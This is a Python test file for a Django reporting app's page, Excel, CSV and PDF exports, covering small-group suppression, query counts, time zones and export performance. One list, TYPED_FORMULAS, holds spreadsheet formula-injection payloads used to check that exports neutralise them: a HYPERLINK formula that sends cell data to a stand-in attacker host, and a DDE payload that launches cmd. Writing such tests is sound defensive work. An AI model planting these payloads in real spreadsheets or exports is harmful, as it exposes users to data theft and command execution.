"""The page, the Excel file, the CSV and the PDF hold the same numbers, and all of them hide small groups."""

import csv
import datetime
import html
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from surveys.tests.records import answer_r1_survey, build_records

pytestmark = pytest.mark.django_db


def _page_cells(page: str) -> list[list[str]]:
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", page, flags=re.S)
    cells = [
        [html.unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        for row in rows
    ]
    return [row for row in cells if row]


def _row(rows, start: str) -> list:
    """Return the first row whose first cell starts with `start`."""
    return next(row for row in rows if row and str(row[0]).startswith(start))


def _download(client, name, fmt, query="year=2025"):
    response = client.get(reverse(name) + f"?{query}&format={fmt}")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return response.content


def _xlsx_rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _pdf_text(content: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


@pytest.fixture
def coordinator_client(client):
    records = build_records()
    client.force_login(records.coordinator)
    client.records = records
    return client


def test_excel_csv_and_pdf_hold_the_numbers_of_the_page(coordinator_client):
    client = coordinator_client
    page = client.get(reverse("reports:enrolment") + "?year=2025").content.decode()
    page_rows = _page_cells(page)
    page_total = next(row for row in page_rows if row[0] == "Totalt")
    assert page_total == ["Totalt", "15", "11", "3", "9", "6", "2", "40\xa0%"]

    csv_rows = _csv_rows(_download(client, "reports:enrolment", "csv"))
    assert page_total in csv_rows
    for page_row in page_rows[:4]:
        assert page_row in csv_rows

    xlsx_rows = _xlsx_rows(_download(client, "reports:enrolment", "xlsx"))
    excel_total = next(row for row in xlsx_rows if row[0] == "Totalt")
    assert list(excel_total[:8]) == ["Totalt", 15, 11, 3, 9, 6, 2, pytest.approx(0.4)]
    r1 = next(row for row in xlsx_rows if str(row[0]).startswith("R1"))
    assert list(r1[1:8]) == [8, 6, 2, 5, 4, 1, pytest.approx(0.375)]

    text = _pdf_text(_download(client, "reports:enrolment", "pdf"))
    assert "Totalt 15 11 3 9 6 2 40 %" in re.sub(r"\s+", " ", text.replace("\xa0", " "))
    assert "<svg" in page and "Anmälda och slutförda per kursomgång" in text


def test_survey_result_exports_match_the_page(coordinator_client):
    client = coordinator_client
    answer_r1_survey(client.records)
    survey = client.records.survey
    url = reverse("reports:survey_result", kwargs={"pk": survey.pk})
    page = client.get(url).content.decode()
    overall = next(row for row in _page_cells(page) if row[0].startswith("Vilket helhetsbetyg"))
    assert overall[1:] == ["1", "0", "1", "2", "1", "0", "5", "3,4", "80\xa0%"]
    csv_rows = _csv_rows(client.get(url + "?format=csv").content)
    assert overall in csv_rows
    xlsx = _xlsx_rows(client.get(url + "?format=xlsx").content)
    excel = next(row for row in xlsx if str(row[0]).startswith("Vilket helhetsbetyg"))
    assert list(excel[1:10]) == [1, 0, 1, 2, 1, 0, 5, pytest.approx(3.4), pytest.approx(0.8)]
    text = re.sub(r"\s+", " ", _pdf_text(client.get(url + "?format=pdf").content).replace("\xa0", " "))
    assert "1 0 1 2 1 0 5 3,4 80 %" in text
    assert "Dialoggrupperna" in text and "Dialoggrupperna" in page


@pytest.fixture
def suppressed_client(client):
    records = build_records(threshold=5)
    client.force_login(records.coordinator)
    client.records = records
    return client


def test_every_output_hides_small_groups(suppressed_client):
    client = suppressed_client
    page = client.get(reverse("reports:enrolment") + "?year=2025").content.decode()
    r1_page = next(row for row in _page_cells(page) if row and row[0].startswith("R1"))
    assert r1_page[1:7] == ["8", "..", "< 5", "..", "< 5", "< 5"]

    r1_csv = next(
        row for row in _csv_rows(_download(client, "reports:enrolment", "csv")) if row and row[0].startswith("R1")
    )
    assert r1_csv == r1_page

    r1_excel = next(
        row for row in _xlsx_rows(_download(client, "reports:enrolment", "xlsx")) if str(row[0]).startswith("R1")
    )
    assert list(r1_excel[1:7]) == [8, "..", "< 5", "..", "< 5", "< 5"]

    text = re.sub(r"\s+", " ", _pdf_text(_download(client, "reports:enrolment", "pdf")))
    assert "8 .. < 5 .. < 5 < 5" in text


def test_survey_outputs_hide_answers_of_small_rounds(suppressed_client):
    client = suppressed_client
    records = client.records
    answer_r1_survey(records)
    url = reverse("reports:survey_result", kwargs={"pk": records.survey.pk})
    page = client.get(url).content.decode()
    overall = next(row for row in _page_cells(page) if row[0].startswith("Vilket helhetsbetyg"))
    assert overall[1:6] == ["< 5", "0", "< 5", "< 5", "< 5"]
    assert overall in _csv_rows(client.get(url + "?format=csv").content)
    excel = next(
        row
        for row in _xlsx_rows(client.get(url + "?format=xlsx").content)
        if str(row[0]).startswith("Vilket helhetsbetyg")
    )
    assert list(excel[1:6]) == ["< 5", 0, "< 5", "< 5", "< 5"]
    text = re.sub(r"\s+", " ", _pdf_text(client.get(url + "?format=pdf").content))
    assert "< 5 0 < 5 < 5 < 5" in text


def test_pages_keep_their_query_count_as_rounds_grow(coordinator_client, django_assert_max_num_queries):
    from courses.models import Nomination, NominationStatus
    from courses.tests.factories import CourseRoundFactory, del1_of
    from districts.tests.factories import StaffMemberFactory

    client = coordinator_client
    records = client.records
    for number in range(6):
        course_round = CourseRoundFactory(course=del1_of(records.organisation), status="held", title=f"Extra {number}")
        Nomination.objects.create(
            course_round=course_round, staff=StaffMemberFactory(unit=records.unit_a), status=NominationStatus.COMPLETED
        )
    for name in ("reports:enrolment", "reports:surveys", "reports:equality", "reports:participation"):
        with django_assert_max_num_queries(16):
            assert client.get(reverse(name)).status_code == 200


def test_the_download_is_named_for_the_day_in_stockholm_not_on_the_server_clock(coordinator_client):
    import datetime
    from unittest import mock

    from django.utils import timezone

    # 23:30 UTC on New Year's Eve is already 1 January in Stockholm.
    late = datetime.datetime(2025, 12, 31, 23, 30, tzinfo=datetime.UTC)
    with mock.patch.object(timezone, "now", return_value=late):
        response = coordinator_client.get(reverse("reports:enrolment") + "?year=2025&format=csv")
    assert "2026-01-01.csv" in response["Content-Disposition"]


# What people type into forms reaches the exports; a spreadsheet must show it, never run it.
TYPED_FORMULAS = [
    '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _needs_with_comments(records):
    from courses.models import KnowledgeArea
    from districts import clock
    from reports import services
    from reports.models import NeedPriority

    period = services.needs_period_open(
        organisation_id=records.organisation.pk,
        title="Inför 2027",
        opens_on=clock.today() - datetime.timedelta(days=1),
        closes_on=clock.today() + datetime.timedelta(days=14),
    )
    areas = list(KnowledgeArea)
    services.needs_report_submit(
        period=period,
        unit=records.unit_a,
        submitted_by=None,
        items={area.value: (NeedPriority.HIGH, text) for area, text in zip(areas, TYPED_FORMULAS, strict=False)},
    )
    return period


def test_typed_formulas_arrive_in_excel_as_text_and_in_csv_behind_an_apostrophe(coordinator_client):
    client = coordinator_client
    period = _needs_with_comments(client.records)
    url = reverse("reports:needs_summary", kwargs={"pk": period.pk})

    response = client.get(url + "?format=xlsx")
    assert response.status_code == 200  # the lazily translated priority labels used to answer 500
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    typed = {text.replace("\r", "\n") for text in TYPED_FORMULAS}  # XML reads a lone CR as a line break
    comments = {cell.value: cell for cell in cells if cell.value in typed}
    assert set(comments) == typed
    for cell in comments.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    high = next(row for row in sheet.iter_rows(values_only=True) if row[0] == "Samverkan")
    assert high[1] == 1 and isinstance(high[1], int)  # numbers stay numbers

    rows = _csv_rows(client.get(url + "?format=csv").content)
    comment_cells = [row[4] for row in rows if len(row) == 5 and row[2] == "Barn och unga A"]
    assert sorted(comment_cells) == sorted(f"'{text}" for text in TYPED_FORMULAS)
    assert next(row for row in rows if row and row[0] == "Samverkan")[1] == "1"


def test_a_survey_answer_that_looks_like_a_formula_is_text_in_every_export(coordinator_client):
    from surveys import services as survey_services
    from surveys.models import QuestionKind
    from surveys.services import AnswerInput

    client = coordinator_client
    survey = client.records.survey
    free_text = survey.template.questions.filter(kind=QuestionKind.FREE_TEXT).order_by("order").first()
    invitation = survey.invitations.order_by("pk").first()
    survey_services.response_submit(
        token=invitation.token, answers=[AnswerInput(question_id=free_text.pk, text=TYPED_FORMULAS[0])]
    )
    url = reverse("reports:survey_result", kwargs={"pk": survey.pk})

    sheet = load_workbook(io.BytesIO(client.get(url + "?format=xlsx").content)).active
    answer = next(cell for row in sheet.iter_rows() for cell in row if cell.value == TYPED_FORMULAS[0])
    assert answer.data_type == "s" and answer.quotePrefix
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert [f"'{TYPED_FORMULAS[0]}"] in _csv_rows(client.get(url + "?format=csv").content)


def test_the_excel_export_never_scans_the_sheet_so_it_is_linear_in_its_rows(monkeypatch):
    """openpyxl's `max_row` (and `sheet[row]`, which asks `max_column`) walk every cell: per row that is quadratic."""
    from openpyxl.worksheet.worksheet import Worksheet

    from reports.exporting import to_xlsx
    from reports.tables import Column, Kind, Report, Table

    def scans(self):
        raise AssertionError("the export scanned every cell of the sheet")

    rows = [[f"Omgång {n}", n, n / 10] for n in range(2000)]
    table = Table(
        title="Stor",
        columns=[Column("Omgång", Kind.TEXT), Column("Anmälda", Kind.COUNT), Column("Andel", Kind.SHARE)],
        rows=rows,
        total=["Totalt", 1, 0.5],
    )
    report = Report(title="Tio år", tables=[table])
    monkeypatch.setattr(Worksheet, "max_row", property(scans))
    monkeypatch.setattr(Worksheet, "max_column", property(scans))
    content = to_xlsx(report)
    monkeypatch.undo()
    sheet = load_workbook(io.BytesIO(content)).active
    values = [row for row in sheet.iter_rows(values_only=True) if row and row[0]]
    assert values[-1][:2] == ("Totalt", 1) and ("Omgång 1999", 1999, 199.9) in values


def _calls_to_export(export, rows: int) -> int:
    """Count the Python lines `export` runs for an enrolment-shaped table of `rows` rounds."""
    import sys

    from reports.tables import Column, Kind, Report, Table

    columns = [Column("Omgång", Kind.TEXT), Column("Anmälda"), Column("Slutförda"), Column("Avbrott", Kind.SHARE)]
    table = Table(
        "Anmälda och slutförda",
        columns,
        rows=[[f"Del 1 omgång {number}", 30, 25, 5 / 30] for number in range(rows)],
        total=["Totalt", 30 * rows, 25 * rows, 5 / 30],
    )
    report = Report("Anmälda och slutförda", [table])
    lines = 0

    def count(_frame, event, _arg):
        nonlocal lines
        lines += event == "line"
        return count

    sys.settrace(count)
    try:
        export(report)
    finally:
        sys.settrace(None)
    return lines


def test_the_excel_export_scans_the_whole_sheet_the_same_number_of_times_at_any_size(monkeypatch):
    # openpyxl's max_row, max_column and dimensions go through every cell in C, which no line count sees.
    from openpyxl.worksheet.worksheet import Worksheet

    from reports import exporting

    scans = []
    for name in ("max_row", "max_column", "min_row", "min_column"):
        scan = getattr(Worksheet, name).fget
        monkeypatch.setattr(Worksheet, name, property(lambda sheet, scan=scan: scans.append(1) or scan(sheet)))
    _calls_to_export(exporting.to_xlsx, 150)
    small = len(scans)
    scans.clear()
    _calls_to_export(exporting.to_xlsx, 300)
    assert len(scans) == small


@pytest.mark.parametrize("export_name", ["to_xlsx", "to_csv"])
def test_excel_and_csv_work_grows_linearly_with_the_rows(export_name):
    # Work, not time: twice the rows may run at most a little over twice the lines (a quadratic export,
    # reading sheet.max_row in its cell loop, ran nearly four times as many).
    from reports import exporting

    export = getattr(exporting, export_name)
    small, large = _calls_to_export(export, 150), _calls_to_export(export, 300)
    assert large <= 2.1 * small, (small, large)
